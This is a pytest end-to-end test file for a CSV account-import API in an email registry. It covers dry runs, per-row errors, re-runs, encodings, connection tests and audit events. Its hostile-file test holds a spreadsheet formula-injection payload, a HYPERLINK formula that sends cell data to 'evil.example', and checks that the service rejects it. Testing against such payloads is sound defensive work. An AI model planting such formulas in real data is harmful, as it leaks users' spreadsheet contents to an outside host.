"""``POST /v1/accounts/import`` on a registry+audit stack: hostile files, dry runs, per-row
errors, idempotent re-runs, the audit trail, connection tests against Dovecot, progress."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from libs.common.natsserver import NatsServer
from services.registry.settings import RegistrySettings
from tests.support.dovecot import Dovecot
from tests.support.registry import audit_types, start_custom, stop
from tests.support.smtpd import SmtpServer
from tests.support.stack import Stack, wait_until
from tests.support.tlsca import session_pki

pytestmark = [pytest.mark.connected, pytest.mark.e2e]
URL = "/v1/accounts/import"
HEADER = [
    "address", "display_name", "protocol", "incoming_host", "incoming_port", "incoming_security",
    "outgoing_host", "outgoing_port", "outgoing_security", "password", "owner_email",
    "employee_name", "employee_title", "department", "forwarding", "polling_interval_s",
]  # fmt: skip
IMAP = ["imap", "imap.acme.example", "993", "ssl", "smtp.acme.example", "587", "starttls"]


def row(address: str, name: str = "", owner: str = "", **over: str) -> list[str]:
    cells = dict(
        zip(
            HEADER,
            [address, name, *IMAP, "pw-" + address, owner, owner.split("@")[0].title(),
             "", "Sales" if owner else "", "", ""],
            strict=True,
        )
    )  # fmt: skip
    cells.update(over)
    return [cells[h] for h in HEADER]


def to_csv(rows: list[list[str]], header: list[str] = HEADER, delimiter: str = ",") -> str:
    out = io.StringIO()
    w = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return out.getvalue()


@pytest.fixture
async def stack(tmp_path: Path, nats_server: NatsServer) -> AsyncIterator[Stack]:
    settings = RegistrySettings(
        ca_file=session_pki().ca_path,
        allow_private_targets=True,
        dns_server="127.0.0.1:9",  # nothing answers: no row here may need discovery
        discovery_timeout_s=0.5,
        connect_timeout_s=3,
        import_chunk_rows=2,  # several chunks even for small files
    )
    s = await start_custom(tmp_path, nats_server, registry_settings=settings)
    try:
        yield s
    finally:
        await stop(s)


async def upload(s: Stack, body: str | bytes, **params: Any) -> Any:
    data = body.encode() if isinstance(body, str) else body
    r = await s.call("POST", URL, content=data, headers={"content-type": "text/csv"}, params=params)
    return r


async def report(s: Stack, body: str | bytes, **params: Any) -> dict[str, Any]:
    r = await upload(s, body, **params)
    assert r.status_code == 200, r.text
    return dict(r.json())


def by_row(rep: dict[str, Any]) -> dict[int, dict[str, Any]]:
    return {r["row"]: r for r in rep["rows"]}


async def addresses(s: Stack) -> list[str]:
    items = (await s.call("GET", "/v1/accounts", params={"limit": 500})).json()["items"]
    return sorted(a["address"] for a in items)


async def test_import_creates_accounts_and_employees_with_events(stack: Stack) -> None:
    s = stack
    body = to_csv(
        [
            row(
                "ann@acme.example",
                "Ann",
                "ann@acme.example",
                forwarding="boss@acme.example;x@acme.example",
            ),
            row("sales@acme.example", "Sales", "bob@acme.example"),
            row("bob@acme.example", "Bob", "bob@acme.example", polling_interval_s="300"),
        ]
    )
    rep = await report(s, body)
    assert (rep["created"], rep["employees_created"], rep["errors"]) == (3, 2, 0), rep
    assert rep["encoding"] == "utf-8" and rep["delimiter"] == ","
    rows = by_row(rep)
    assert [rows[n]["status"] for n in (2, 3, 4)] == ["created"] * 3
    assert rows[2]["employee_created"] and rows[3]["employee_created"]
    assert not rows[4]["employee_created"]  # bob was created for row 3
    ann = (await s.call("GET", f"/v1/accounts/{rows[2]['account_id']}")).json()
    assert ann["forwarding"] == ["boss@acme.example", "x@acme.example"] and ann["has_credential"]
    bob = (await s.call("GET", f"/v1/accounts/{rows[4]['account_id']}")).json()
    assert bob["polling_interval_s"] == 300
    people = (await s.call("GET", "/v1/employees")).json()["items"]
    assert sorted((p["name"], p["department"]) for p in people) == [
        ("Ann", "Sales"),
        ("Bob", "Sales"),
    ]
    assert bob["owner_id"] == next(p["id"] for p in people if p["name"] == "Bob")
    assert await audit_types(s, bob["id"], 1) == ["AccountAdded"]
    assert await audit_types(s, bob["owner_id"], 1) == ["EmployeeAdded"]
    trail = (await s.call("GET", "/v1/audit/events", params={"aggregate_id": ann["id"]})).json()
    correlation = trail["items"][0]["event"]["correlation_id"]
    same = await s.call("GET", "/v1/audit/events", params={"correlation_id": correlation})
    assert len(same.json()["items"]) == 5  # one user action: 3 accounts, 2 employees


async def test_dry_run_writes_nothing(stack: Stack) -> None:
    body = to_csv([row("a@acme.example", owner="a@acme.example"), row("b@acme.example")])
    rep = await report(stack, body, dry_run="true")
    assert rep["dry_run"] and (rep["would_create"], rep["created"]) == (2, 0)
    assert rep["employees_created"] == 1
    assert await addresses(stack) == []
    assert (await stack.call("GET", "/v1/employees")).json()["items"] == []


async def test_per_row_errors_name_row_and_column_and_rows_are_whole(stack: Stack) -> None:
    body = to_csv(
        [
            row("good@acme.example", owner="good@acme.example"),
            row("not-an-address"),
            row("port@acme.example", incoming_port="99999"),
            row("sec@acme.example", incoming_security="tls"),
            row("half@acme.example", owner="not an email"),  # no employee, no account
            row("loop@acme.example", forwarding="loop@acme.example"),
            row("nothing@acme.example", protocol="", incoming_host="", outgoing_host=""),
        ]
    )
    rep = await report(stack, body)
    rows = by_row(rep)
    assert rep["created"] == 1 and rep["errors"] == 6, rep
    expect = {
        3: ("invalid_address", "address"),
        4: ("invalid_server", "incoming"),
        5: ("invalid_incoming_security", "incoming_security"),
        6: ("invalid_address", "owner_email"),
        7: ("forwarding_loop", "forwarding"),
        8: ("servers_not_found", None),
    }
    for n, (code, column) in expect.items():
        assert (rows[n]["code"], rows[n]["column"]) == (code, column), rows[n]
        assert rows[n]["message"].startswith(f"row {n}: ")
    assert await addresses(stack) == ["good@acme.example"]
    people = (await stack.call("GET", "/v1/employees")).json()["items"]
    assert [p["email"] for p in people] == ["good@acme.example"]


async def test_same_file_twice_adds_nothing_twice(stack: Stack) -> None:
    rows = [row(f"u{i}@acme.example", owner=f"o{i % 2}@acme.example") for i in range(5)]
    body = to_csv([*rows, rows[0]])  # and a duplicate row
    first = await report(stack, body)
    assert (first["created"], first["duplicates"], first["employees_created"]) == (5, 1, 2)
    assert by_row(first)[7]["status"] == "duplicate"
    assert "same address as row 2" in by_row(first)[7]["message"]
    again = await report(stack, body)
    assert (again["created"], again["unchanged"], again["duplicates"]) == (0, 5, 1)
    assert again["employees_created"] == 0 and again["errors"] == 0
    assert len(await addresses(stack)) == 5
    changed = to_csv(
        [
            row(
                "u0@acme.example",
                owner="o0@acme.example",
                incoming_port="143",
                incoming_security="starttls",
            )
        ]
    )
    rep = await report(stack, changed)
    [r] = rep["rows"]
    assert (r["status"], r["code"]) == ("error", "address_exists") and r["account_id"]


async def test_hostile_files(stack: Stack) -> None:
    s = stack
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    body = to_csv([row("ok@acme.example"), row("evil@acme.example", name=evil)], delimiter=";")
    r = await upload(s, body)
    assert r.status_code == 200 and "HYPERLINK" not in r.text and "evil.example/" not in r.text
    rows = by_row(r.json())
    assert rows[3]["code"] == "formula_injection" and rows[3]["column"] == "display_name"
    assert r.json()["delimiter"] == ";"

    gbk = to_csv(
        [
            row(
                "zhang@acme.example",
                name="张伟",
                owner="zhang@acme.example",
                employee_name="张伟",
                department="销售部",
            )
        ],
        delimiter="\t",
    )
    rep = await report(s, gbk.encode("gbk"))
    assert rep["encoding"] == "gb18030" and rep["created"] == 1, rep
    people = (await s.call("GET", "/v1/employees", params={"q": "张"})).json()["items"]
    assert [(p["name"], p["department"]) for p in people] == [("张伟", "销售部")]

    utf16 = to_csv([row("zoe@acme.example", name="Zoë Müller")])
    rep = await report(s, utf16.encode("utf-16"))
    assert rep["created"] == 1 and rep["encoding"] == "utf-16"
    latin = to_csv([row("rene@acme.example", name="René Ça")]).encode("latin-1")
    r = await upload(s, latin, encoding="latin-1")
    assert r.json()["encoding"] == "iso8859-1" and r.json()["created"] == 1

    r = await upload(s, "name,password\nAnn,pw\n")
    assert r.status_code == 422
    err = r.json()["error"]
    assert err["code"] == "missing_columns" and "address" in err["message"]
    r = await upload(s, "address,display_name\na@acme.example,A,x,y\n")
    assert by_row(r.json())[2]["code"] == "too_many_columns"
    r = await upload(s, b"")
    assert r.json()["error"]["code"] == "empty_csv"
    r = await upload(s, b"address\n\xff\xfe", encoding="utf-8")
    assert r.status_code == 422 and r.json()["error"]["code"] == "undecodable"


async def test_multipart_upload_and_admin_only(stack: Stack) -> None:
    body = to_csv([row("m@acme.example")])
    r = await stack.call("POST", URL, files={"file": ("accounts.csv", body.encode(), "text/csv")})
    assert r.status_code == 200 and r.json()["created"] == 1, r.text
    r = await stack.call("POST", URL, content=body.encode(), role="employee", subject="e1")
    assert r.status_code == 403


async def test_progress_is_streamed_as_ndjson(stack: Stack) -> None:
    body = to_csv([row(f"p{i}@acme.example") for i in range(5)])
    r = await stack.call(
        "POST", URL, content=body.encode(), headers={"accept": "application/x-ndjson"}
    )
    lines = [json.loads(x) for x in r.text.splitlines()]
    phases = [x["progress"]["phase"] for x in lines if "progress" in x]
    assert phases[0] == "parsed" and "writing" in phases
    assert lines[-1]["report"]["created"] == 5


async def test_connection_tests_keep_failing_rows_out(
    stack: Stack, dovecot: Dovecot, smtpd: SmtpServer
) -> None:
    good, good_pw = dovecot.new_user()
    bad, _ = dovecot.new_user()
    smtpd.add_user(good, good_pw)
    smtpd.add_user(bad, "whatever")
    servers = {
        "incoming_host": "127.0.0.1",
        "incoming_port": str(dovecot.imaps_port),
        "incoming_security": "ssl",
        "outgoing_host": "127.0.0.1",
        "outgoing_port": str(smtpd.tls_port),
        "outgoing_security": "ssl",
    }
    header = [*HEADER, "username"]
    body = to_csv(
        [
            [*row(f"{good}@acme.example", password=good_pw, **servers), good],
            [*row(f"{bad}@acme.example", password="wrong", **servers), bad],
        ],
        header=header,
    )
    rep = await report(stack, body, test_connections="true", concurrency=2, dry_run="true")
    rows = by_row(rep)
    assert rep["tested"] and rows[2]["status"] == "would_create"
    assert rows[3]["code"] == "connection_failed" and "incoming server" in rows[3]["message"]
    assert rows[3]["connection"]["incoming"]["failure"] == "auth_failed"
    assert "wrong" not in json.dumps(rep)
    rep = await report(stack, body, test_connections="true")
    assert (rep["created"], rep["errors"]) == (1, 1)
    assert await addresses(stack) == [f"{good}@acme.example"]


async def test_events_of_an_import_reach_nats_in_order(stack: Stack) -> None:
    body = to_csv([row(f"n{i}@acme.example", owner="boss@acme.example") for i in range(4)])
    rep = await report(stack, body)
    ids = [r["account_id"] for r in rep["rows"]]

    async def all_in_audit() -> bool:
        for account_id in ids:
            r = await stack.call("GET", "/v1/audit/events", params={"aggregate_id": account_id})
            if not r.json()["items"]:
                return False
        return True

    assert await wait_until(all_in_audit)
    assert (await stack.call("GET", "/v1/audit/verify")).status_code == 200
